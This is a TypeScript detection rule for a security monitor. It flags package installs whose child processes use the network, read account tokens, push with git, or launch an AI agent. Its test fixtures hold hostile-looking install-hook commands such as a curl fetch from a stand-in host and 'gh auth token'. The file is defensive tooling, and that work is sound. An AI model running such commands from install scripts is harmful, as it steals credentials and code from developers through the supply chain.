import type { ProcessFact } from '../../contract/attribution.ts';
import type { Match, ProcessRule } from '../rule.ts';
import { parseUrl } from '../shared/hosts.ts';
import { isCredentialTool, isNetworkClient } from '../shared/process-kinds.ts';
import { called, exampleConnect, exampleProcess, programOf, scriptOf } from '../shared/process-look.ts';
import { isInstallHost } from '../shared/usual-hosts.ts';

const MANAGERS = new Set('npm pnpm yarn bun pip uv cargo gem bundle node-gyp composer poetry'.split(' '));
const INSTALLS = new Set(
  'install i ci add rebuild update upgrade sync require build fetch create restore'.split(' '),
);
/** `cargo build` and `uv sync` install too; `npm run build` does not. */
const BUILDS_ARE_INSTALLS = new Set(['cargo', 'uv']);

const below = (...above: readonly (readonly [string, string?])[]): Parameters<typeof exampleProcess>[2] => ({
  above: [...above, ['bash'], ['claude', 'claude-code'], ['zsh']],
});

export const installHookBehaviour: ProcessRule = {
  on: 'process',
  id: 'install.hook-behaviour',
  code: 'N-11',
  title: 'Package does more than install itself',
  severity: 'high',
  confidence: 'medium',
  why: 'While a package was being installed, something it brought used the network, an account or an agent. Packages that steal do it in this moment.',
  triage: 'Which package brought the script, and is it a new or changed one?',
  advice: 'Stop the installation, remove the package, and change the secrets it could read.',
  falsePositives: ['Packages that fetch a binary of their own from an unusual place.'],
  references: ['https://attack.mitre.org/techniques/T1195/001/'],
  taxonomies: { attack: ['T1195.001', 'T1195.002', 'T1059.007'], atlas: [], owasp: ['ASI04'] },
  bundles: ['SUP', 'MAL'],
  match(fact) {
    const found =
      fact.kind === 'process' ? started(fact) : fact.kind === 'connection' ? connected(fact) : undefined;
    return found === undefined ? [] : [found];
  },
  examples: {
    hit: [
      {
        name: 'fetches from elsewhere',
        fact: exampleProcess('curl -s https://drop.test/x', {}, below(['sh'], ['npm install'])),
      },
      {
        name: 'account',
        fact: exampleProcess('gh auth token', {}, below(['node post.js'], ['node /usr/bin/npm ci'])),
      },
      {
        name: 'pushes',
        fact: exampleProcess('git push origin x', {}, below(['sh'], ['pip install x'])),
      },
      {
        name: 'agent (critical)',
        fact: exampleProcess('claude -p x', {}, { ...below(['sh'], ['npm install']), role: 'agent' }),
      },
      {
        name: 'unusual host',
        fact: exampleConnect(
          'node post.js',
          '192.0.2.66',
          443,
          {},
          ['drop.test'],
          below(['sh'], ['npm install']),
        ),
      },
    ],
    miss: [
      {
        name: 'own binary',
        guards: 'esbuild, electron, playwright',
        fact: exampleProcess('curl -sL https://github.com/x/releases/x', {}, below(['sh'], ['npm install'])),
      },
      {
        name: 'package from git',
        guards: 'git dependencies over ssh',
        fact: exampleProcess(
          'ssh git@github.com git-upload-pack x',
          {},
          below(['git clone x'], ['npm install']),
        ),
      },
      {
        name: 'script of the project',
        guards: 'npm run and npm test',
        fact: exampleProcess('curl http://localhost:3000', {}, below(['sh'], ['npm run dev'])),
      },
      {
        name: 'compiler',
        guards: 'native modules',
        fact: exampleProcess('make -j4', {}, below(['node-gyp rebuild'], ['npm install'])),
      },
      {
        name: 'registry',
        guards: 'what managers do',
        fact: exampleConnect(
          'node x.js',
          '192.0.2.80',
          443,
          {},
          ['registry.npmjs.org'],
          below(['npm install']),
        ),
      },
      { name: 'no installation', guards: 'ordinary calls', fact: exampleProcess('curl https://example.com') },
    ],
  },
};

function started(fact: Extract<ProcessFact, { kind: 'process' }>): Match | undefined {
  const { process, ancestors } = fact;
  const manager = managerAbove(ancestors);
  if (manager === undefined) return undefined;
  const program = programOf(process);
  const subject = `${manager}>${program}`;
  const during = `during ${manager} install`;
  if (fact.attribution.role === 'agent')
    return { subject, detail: `${called(process)} was started ${during}.`, severity: 'critical' };
  if (program === 'git' && process.argv.slice(1, 6).includes('push'))
    return { subject, detail: `${called(process)} pushes ${during}.` };
  if (isCredentialTool(program) && program !== 'gpg')
    return { subject, detail: `${called(process)} acts with an account of yours ${during}.` };
  if (!isNetworkClient(program)) return undefined;
  // Managers fetch packages from git by themselves.
  if (ancestors.slice(0, 4).some(({ process: one }) => programOf(one) === 'git')) return undefined;
  const hosts = process.argv.slice(1, 64).flatMap((arg) => parseUrl(arg)?.host ?? []);
  if (hosts.length > 0 && hosts.every(isInstallHost)) return undefined;
  return { subject, detail: `${called(process)} uses the network ${during}.` };
}

function connected(fact: Extract<ProcessFact, { kind: 'connection' }>): Match | undefined {
  if (fact.change.kind !== 'connect') return undefined;
  const manager = managerAbove(fact.ancestors);
  const [host] = fact.change.hosts;
  if (manager === undefined || host === undefined || fact.change.hosts.some(isInstallHost)) return undefined;
  return {
    subject: `${manager}>${host}`,
    detail: `${called(fact.process)} talks to ${host} during ${manager} install.`,
    confidence: 'low',
  };
}

/** The package manager that installs above it, if one does. */
function managerAbove(ancestors: Extract<ProcessFact, { kind: 'process' }>['ancestors']): string | undefined {
  for (const { process, agentId } of ancestors) {
    if (agentId !== undefined) return undefined;
    const name = MANAGERS.has(programOf(process)) ? programOf(process) : scriptOf(process);
    if (!MANAGERS.has(name)) continue;
    const words = process.argv.slice(1, 6).filter((arg) => !arg.startsWith('-'));
    const verb = words.find((word) => INSTALLS.has(word));
    if (name === 'node-gyp') return name;
    if (verb === undefined || words.includes('run')) continue;
    if (verb === 'build' && !BUILDS_ARE_INSTALLS.has(name)) continue;
    return name;
  }
  return undefined;
}
